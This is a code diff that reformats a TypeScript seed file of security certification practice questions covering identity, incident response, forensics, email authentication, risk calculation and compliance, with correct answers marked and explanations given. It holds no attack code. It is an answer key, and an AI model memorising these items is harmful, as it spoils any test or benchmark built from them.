         'TACACS+ separates authentication, authorization, and accounting, supports per-command authorization for device administration, runs over TCP, and encrypts the full packet body. RADIUS combines authentication and authorization and encrypts only the password attribute, which is why it is favored for network access rather than granular device administration. LDAP is a directory protocol without command authorization, and SAML is a web federation standard.',
-      references: [{ title: 'RFC 8907: The TACACS+ Protocol', url: 'https://www.rfc-editor.org/rfc/rfc8907' }],
+      references: [
+        { title: 'RFC 8907: The TACACS+ Protocol', url: 'https://www.rfc-editor.org/rfc/rfc8907' },
+      ],
     },
     {
       objective: '4.0',
@@ -682,7 +752,10 @@ export const securityCore: SeedExam = {
         { text: 'Require the shared password to be 20 characters long and changed annually' },
         { text: 'Enable single sign-on for all administrative tools' },
         { text: 'Provide each administrator with a personal password manager' },
-        { text: 'Deploy a privileged access management solution with just-in-time elevation, credential check-out, and automatic password rotation', correct: true },
+        {
+          text: 'Deploy a privileged access management solution with just-in-time elevation, credential check-out, and automatic password rotation',
+          correct: true,
+        },
       ],
       explanation:
         'A PAM solution removes standing privilege by granting elevated access only when needed, vaults privileged credentials, ties each check-out to an individual for accountability, and rotates passwords after use. A longer shared password still offers no individual accountability and remains permanently valid. SSO improves convenience but does not limit privilege, and personal password managers do not control or audit shared privileged accounts.',
@@ -721,13 +794,22 @@ export const securityCore: SeedExam = {
         { text: 'The lab server, because a 9.8 base score is critical' },
         { text: 'Both equally, because all scanner findings share the same SLA' },
         { text: 'Whichever finding has been open the longest' },
-        { text: 'The payment server, because exposure, active exploitation, and asset criticality make its real risk higher', correct: true },
+        {
+          text: 'The payment server, because exposure, active exploitation, and asset criticality make its real risk higher',
+          correct: true,
+        },
       ],
       explanation:
-        'The CVSS base score describes a vulnerability\'s technical severity, but prioritization should also weigh environmental and threat context such as internet exposure, known active exploitation, and the value of the asset. An actively exploited flaw on an internet-facing payment system is far more likely to cause harm than a critical-rated flaw on an isolated, low-value lab host. Treating all findings the same or by age ignores that risk context.',
+        "The CVSS base score describes a vulnerability's technical severity, but prioritization should also weigh environmental and threat context such as internet exposure, known active exploitation, and the value of the asset. An actively exploited flaw on an internet-facing payment system is far more likely to cause harm than a critical-rated flaw on an isolated, low-value lab host. Treating all findings the same or by age ignores that risk context.",
       references: [
-        { title: 'FIRST CVSS v3.1 Specification', url: 'https://www.first.org/cvss/v3.1/specification-document' },
-        { title: 'CISA Known Exploited Vulnerabilities Catalog', url: 'https://www.cisa.gov/known-exploited-vulnerabilities-catalog' },
+        {
+          title: 'FIRST CVSS v3.1 Specification',
+          url: 'https://www.first.org/cvss/v3.1/specification-document',
+        },
+        {
+          title: 'CISA Known Exploited Vulnerabilities Catalog',
+          url: 'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
+        },
       ],
     },
     {
@@ -755,7 +837,12 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'Credentialed scans log in to each host and can inspect installed software, registry settings, and patch levels directly, revealing issues that are not visible from the network. An external, unauthenticated view sees even less of the host. Passive scanning observes only traffic, and scanning more often would simply repeat the same incomplete results.',
-      references: [{ title: 'NIST SP 800-40 Rev. 4 Guide to Enterprise Patch Management Planning', url: 'https://csrc.nist.gov/pubs/sp/800/40/r4/final' }],
+      references: [
+        {
+          title: 'NIST SP 800-40 Rev. 4 Guide to Enterprise Patch Management Planning',
+          url: 'https://csrc.nist.gov/pubs/sp/800/40/r4/final',
+        },
+      ],
     },
     {
       objective: '4.0',
@@ -769,35 +856,53 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'Containment limits the spread and impact of an incident, for example by isolating an affected host, while preserving evidence for analysis. Preparation takes place before an incident, through activities such as building playbooks and tools. Eradication removes the malware and its persistence after containment, and lessons learned is the post-incident review.',
-      references: [{ title: 'NIST SP 800-61 Rev. 2 Computer Security Incident Handling Guide', url: 'https://csrc.nist.gov/pubs/sp/800/61/r2/final' }],
+      references: [
+        {
+          title: 'NIST SP 800-61 Rev. 2 Computer Security Incident Handling Guide',
+          url: 'https://csrc.nist.gov/pubs/sp/800/61/r2/final',
+        },
+      ],
     },
     {
       objective: '4.0',
       difficulty: 2,
       stem: 'A new SOC analyst is writing an incident response playbook. Which of the following lists the incident response activities in the correct order?',
       options: [
-        { text: 'Preparation, detection, analysis, containment, eradication, recovery, lessons learned', correct: true },
+        {
+          text: 'Preparation, detection, analysis, containment, eradication, recovery, lessons learned',
+          correct: true,
+        },
         { text: 'Detection, preparation, containment, analysis, recovery, eradication, lessons learned' },
         { text: 'Preparation, detection, eradication, containment, analysis, recovery, lessons learned' },
         { text: 'Preparation, analysis, detection, recovery, containment, eradication, lessons learned' },
       ],
       explanation:
         'The process begins with preparation before incidents happen, then detection and analysis to confirm and scope the incident, followed by containment to stop the spread, eradication to remove the cause, recovery to restore normal operations, and lessons learned to improve the program. Eradicating before containing risks further spread while the attacker still has access. Recovering before eradication could reintroduce systems that are still compromised.',
-      references: [{ title: 'NIST SP 800-61 Rev. 2 Computer Security Incident Handling Guide', url: 'https://csrc.nist.gov/pubs/sp/800/61/r2/final' }],
+      references: [
+        {
+          title: 'NIST SP 800-61 Rev. 2 Computer Security Incident Handling Guide',
+          url: 'https://csrc.nist.gov/pubs/sp/800/61/r2/final',
+        },
+      ],
     },
     {
       objective: '4.0',
       difficulty: 2,
       stem: 'A forensic investigator arrives at a running server that is suspected of being compromised. Following the order of volatility, which of the following should the investigator collect FIRST?',
       options: [
-        { text: 'A bit-for-bit image of the system\'s hard drive' },
+        { text: "A bit-for-bit image of the system's hard drive" },
         { text: 'Log data already forwarded to the remote syslog server' },
         { text: 'Files in the temporary file system' },
         { text: 'The contents of system memory (RAM)', correct: true },
       ],
       explanation:
         'Evidence should be collected from most to least volatile, and memory contents, including running processes, network connections, and encryption keys, are lost as soon as the system is powered off or changes state. Temporary file system contents are less volatile than RAM but more volatile than data on disk. A disk image and remote logs persist much longer and can be collected later.',
-      references: [{ title: 'RFC 3227: Guidelines for Evidence Collection and Archiving', url: 'https://www.rfc-editor.org/rfc/rfc3227' }],
+      references: [
+        {
+          title: 'RFC 3227: Guidelines for Evidence Collection and Archiving',
+          url: 'https://www.rfc-editor.org/rfc/rfc3227',
+        },
+      ],
     },
     {
       objective: '4.0',
@@ -815,17 +920,25 @@ export const securityCore: SeedExam = {
     {
       objective: '4.0',
       difficulty: 2,
-      stem: 'An investigator is acquiring an image of a suspect laptop\'s drive for a case that may go to court. Which of the following actions BEST preserve the integrity of the evidence? (Choose two.)',
+      stem: "An investigator is acquiring an image of a suspect laptop's drive for a case that may go to court. Which of the following actions BEST preserve the integrity of the evidence? (Choose two.)",
       options: [
         { text: 'Boot the laptop normally and run a full antivirus scan before imaging' },
         { text: 'Attach the drive through a hardware write blocker during acquisition', correct: true },
         { text: 'Copy relevant files to a USB drive by dragging and dropping them' },
-        { text: 'Calculate and record cryptographic hashes of the original drive and the image', correct: true },
+        {
+          text: 'Calculate and record cryptographic hashes of the original drive and the image',
+          correct: true,
+        },
         { text: 'Defragment the drive so the image is smaller' },
       ],
       explanation:
         'A write blocker prevents any change to the original media during acquisition, and matching hashes of the original and the image prove the copy is exact and unaltered. Booting the system and running antivirus modifies timestamps and files and can destroy evidence. Dragging and dropping files alters metadata and misses deleted and unallocated data, and defragmenting rewrites the drive and destroys recoverable artifacts.',
-      references: [{ title: 'NIST SP 800-86 Guide to Integrating Forensic Techniques into Incident Response', url: 'https://csrc.nist.gov/pubs/sp/800/86/final' }],
+      references: [
+        {
+          title: 'NIST SP 800-86 Guide to Integrating Forensic Techniques into Incident Response',
+          url: 'https://csrc.nist.gov/pubs/sp/800/86/final',
+        },
+      ],
     },
     {
       objective: '4.0',
@@ -839,7 +952,12 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'DMARC builds on SPF and DKIM by requiring alignment with the visible From domain, specifying a policy of none, quarantine, or reject for failing messages, and enabling aggregate and forensic reporting. SPF lists authorized sending servers but does not tell receivers what to do on failure, and a domain must have only one SPF record. MX records specify inbound mail servers, and PTR records provide reverse DNS lookups.',
-      references: [{ title: 'RFC 7489: Domain-based Message Authentication, Reporting, and Conformance (DMARC)', url: 'https://www.rfc-editor.org/rfc/rfc7489' }],
+      references: [
+        {
+          title: 'RFC 7489: Domain-based Message Authentication, Reporting, and Conformance (DMARC)',
+          url: 'https://www.rfc-editor.org/rfc/rfc7489',
+        },
+      ],
     },
     {
       objective: '4.0',
@@ -892,22 +1010,27 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'EAP-TLS performs mutual certificate-based authentication, requiring certificates on both the authentication server and each client. PEAP and EAP-TTLS use a server certificate to build a protected tunnel, but the client usually authenticates inside it with a password through MSCHAPv2 or PAP. EAP-FAST uses protected access credentials to establish its tunnel and commonly relies on passwords for user authentication.',
-      references: [{ title: 'RFC 5216: The EAP-TLS Authentication Protocol', url: 'https://www.rfc-editor.org/rfc/rfc5216' }],
+      references: [
+        {
+          title: 'RFC 5216: The EAP-TLS Authentication Protocol',
+          url: 'https://www.rfc-editor.org/rfc/rfc5216',
+        },
+      ],
     },
     {
       objective: '4.0',
       difficulty: 2,
       stem: 'A systems engineer in the finance department has been terminated effective immediately. Which of the following deprovisioning actions should the IT and security teams take? (Choose three.)',
       options: [
-        { text: 'Disable the user\'s accounts and revoke active sessions and tokens', correct: true },
-        { text: 'Delete all of the user\'s mailbox and file data immediately' },
-        { text: 'Collect the user\'s badge, laptop, and hardware security key', correct: true },
+        { text: "Disable the user's accounts and revoke active sessions and tokens", correct: true },
+        { text: "Delete all of the user's mailbox and file data immediately" },
+        { text: "Collect the user's badge, laptop, and hardware security key", correct: true },
         { text: 'Leave the account enabled for 90 days so email continues to arrive' },
         { text: 'Rotate passwords for any shared or service accounts the user knew', correct: true },
-        { text: 'Give the user\'s password to their manager so files can be retrieved' },
+        { text: "Give the user's password to their manager so files can be retrieved" },
       ],
       explanation:
-        'Prompt deprovisioning disables access and invalidates existing sessions, recovers physical credentials and company assets, and rotates any shared secrets the person could still use. Immediately deleting data may violate retention requirements or a legal hold, so data should be transferred or preserved according to policy. Leaving the account enabled keeps an unnecessary access path open, and sharing the user\'s password destroys accountability; delegated access should be granted to the manager instead.',
+        "Prompt deprovisioning disables access and invalidates existing sessions, recovers physical credentials and company assets, and rotates any shared secrets the person could still use. Immediately deleting data may violate retention requirements or a legal hold, so data should be transferred or preserved according to policy. Leaving the account enabled keeps an unnecessary access path open, and sharing the user's password destroys accountability; delegated access should be granted to the manager instead.",
     },
 
     // ---------------------------------------------------------------------
@@ -933,12 +1056,20 @@ export const securityCore: SeedExam = {
       options: [
         { text: 'Implement the control, because it reduces the ALE by $16,000' },
         { text: 'Implement the control, because it reduces the SLE from $200,000 to $40,000' },
-        { text: 'Do not implement the control, because its annual cost exceeds the $16,000 reduction in ALE', correct: true },
+        {
+          text: 'Do not implement the control, because its annual cost exceeds the $16,000 reduction in ALE',
+          correct: true,
+        },
         { text: 'Do not implement the control, because the SLE would remain unchanged' },
       ],
       explanation:
-        'The current ALE is $200,000 x 0.1 = $20,000 and the residual ALE is $200,000 x 0.02 = $4,000, so the control saves $16,000 per year while costing $35,000, which is not cost-justified on a purely quantitative basis. A reduction in ALE alone does not justify a control unless it exceeds the control\'s cost. The control changes the likelihood (ARO), not the SLE, and an unchanged SLE is not by itself a reason to reject a control.',
-      references: [{ title: 'NIST SP 800-30 Rev. 1 Guide for Conducting Risk Assessments', url: 'https://csrc.nist.gov/pubs/sp/800/30/r1/final' }],
+        "The current ALE is $200,000 x 0.1 = $20,000 and the residual ALE is $200,000 x 0.02 = $4,000, so the control saves $16,000 per year while costing $35,000, which is not cost-justified on a purely quantitative basis. A reduction in ALE alone does not justify a control unless it exceeds the control's cost. The control changes the likelihood (ARO), not the SLE, and an unchanged SLE is not by itself a reason to reject a control.",
+      references: [
+        {
+          title: 'NIST SP 800-30 Rev. 1 Guide for Conducting Risk Assessments',
+          url: 'https://csrc.nist.gov/pubs/sp/800/30/r1/final',
+        },
+      ],
     },
     {
       objective: '5.0',
@@ -995,15 +1126,17 @@ export const securityCore: SeedExam = {
     {
       objective: '5.0',
       difficulty: 3,
-      stem: 'Before signing a contract with a cloud payroll provider, a company\'s vendor risk team needs independent assurance that the provider\'s security controls have operated effectively over time. The team cannot perform its own on-site audit. Which of the following should the team request?',
+      stem: "Before signing a contract with a cloud payroll provider, a company's vendor risk team needs independent assurance that the provider's security controls have operated effectively over time. The team cannot perform its own on-site audit. Which of the following should the team request?",
       options: [
-        { text: 'The provider\'s SOC 2 Type I report' },
-        { text: 'The provider\'s published privacy policy' },
-        { text: 'The provider\'s SOC 2 Type II report', correct: true },
-        { text: 'Permission to run an unannounced penetration test against the provider\'s production environment' },
+        { text: "The provider's SOC 2 Type I report" },
+        { text: "The provider's published privacy policy" },
+        { text: "The provider's SOC 2 Type II report", correct: true },
+        {
+          text: "Permission to run an unannounced penetration test against the provider's production environment",
+        },
       ],
       explanation:
-        'A SOC 2 Type II report is an independent auditor\'s opinion on both the design and the operating effectiveness of a service organization\'s controls over a period of time, usually six to twelve months. A Type I report evaluates only control design at a single point in time. A privacy policy is a self-published statement rather than independent assurance, and a penetration test of production systems requires explicit, scoped authorization and does not assess controls broadly.',
+        "A SOC 2 Type II report is an independent auditor's opinion on both the design and the operating effectiveness of a service organization's controls over a period of time, usually six to twelve months. A Type I report evaluates only control design at a single point in time. A privacy policy is a self-published statement rather than independent assurance, and a penetration test of production systems requires explicit, scoped authorization and does not assess controls broadly.",
     },
     {
       objective: '5.0',
@@ -1039,7 +1172,10 @@ export const securityCore: SeedExam = {
         { text: 'Terminate employees who clicked the link' },
         { text: 'Stop running simulations because they lower morale' },
         { text: 'Block all external email for the accounts payable team' },
-        { text: 'Provide targeted training for those who clicked, especially accounts payable, and track click rates over recurring campaigns', correct: true },
+        {
+          text: 'Provide targeted training for those who clicked, especially accounts payable, and track click rates over recurring campaigns',
+          correct: true,
+        },
       ],
       explanation:
         'Effective awareness programs use simulation results to deliver targeted, role-relevant training and measure improvement over time, and accounts payable is a frequent target of payment fraud. Punitive terminations discourage employees from reporting mistakes. Stopping simulations removes a key measurement tool, and blocking all external email would disrupt legitimate business without addressing user behavior.',
@@ -1056,7 +1192,12 @@ export const securityCore: SeedExam = {
       ],
       explanation:
         'The rules of engagement define how a penetration test will be conducted, including scope, allowed and prohibited activities, timing, communication, and data handling, and they provide the written authorization that separates testing from an attack. An NDA covers confidentiality only. An attestation of compliance records the outcome of a compliance assessment, and an SLA defines ongoing service performance.',
-      references: [{ title: 'NIST SP 800-115 Technical Guide to Information Security Testing and Assessment', url: 'https://csrc.nist.gov/pubs/sp/800/115/final' }],
+      references: [
+        {
+          title: 'NIST SP 800-115 Technical Guide to Information Security Testing and Assessment',
+          url: 'https://csrc.nist.gov/pubs/sp/800/115/final',
+        },
+      ],
     },
     {
       objective: '5.0',
@@ -1065,24 +1206,21 @@ export const securityCore: SeedExam = {
       options: [
         { text: 'The right to erasure', correct: true },
         { text: 'The right to require a specific encryption algorithm for their data' },
-        { text: 'The right to receive the controller\'s internal security audit reports' },
+        { text: "The right to receive the controller's internal security audit reports" },
         { text: 'The right to data portability', correct: true },
         { text: 'The right to unlimited free storage of their data by the controller' },
       ],
       explanation:
         'GDPR grants data subjects the right to erasure (the "right to be forgotten," Article 17) and the right to data portability (Article 20), along with others such as access and rectification. The regulation requires appropriate security measures but does not let individuals dictate specific algorithms. Data subjects have no right to a controller\'s internal audit reports, and storage limitation actually requires that personal data not be kept longer than necessary.',
-      references: [{ title: 'Regulation (EU) 2016/679 (GDPR)', url: 'https://eur-lex.europa.eu/eli/reg/2016/679/oj' }],
+      references: [
+        { title: 'Regulation (EU) 2016/679 (GDPR)', url: 'https://eur-lex.europa.eu/eli/reg/2016/679/oj' },
+      ],
     },
     {
       objective: '5.0',
       difficulty: 1,
       stem: 'An online retailer stores, processes, and transmits customer credit card numbers. Which compliance framework is the retailer contractually required to follow for this data?',
-      options: [
-        { text: 'HIPAA' },
-        { text: 'FERPA' },
-        { text: 'PCI DSS', correct: true },
-        { text: 'SOX' },
-      ],
+      options: [{ text: 'HIPAA' }, { text: 'FERPA' }, { text: 'PCI DSS', correct: true }, { text: 'SOX' }],
       explanation:
         'PCI DSS applies to any organization that stores, processes, or transmits payment card data and is enforced through agreements with the card brands and acquiring banks. HIPAA governs protected health information in the United States, and FERPA protects student education records. SOX concerns the accuracy of financial reporting by publicly traded companies, not cardholder data security.',
       references: [{ title: 'PCI Security Standards Council', url: 'https://www.pcisecuritystandards.org/' }],
@@ -1104,7 +1242,7 @@ export const securityCore: SeedExam = {
     {
       objective: '5.0',
       difficulty: 2,
-      stem: 'A multinational company learns that a law in one country where it operates requires personal data about that country\'s citizens to be stored and processed on servers physically located within the country. Which concept does this requirement illustrate?',
+      stem: "A multinational company learns that a law in one country where it operates requires personal data about that country's citizens to be stored and processed on servers physically located within the country. Which concept does this requirement illustrate?",
       options: [
         { text: 'Data minimization' },
         { text: 'Data masking' },
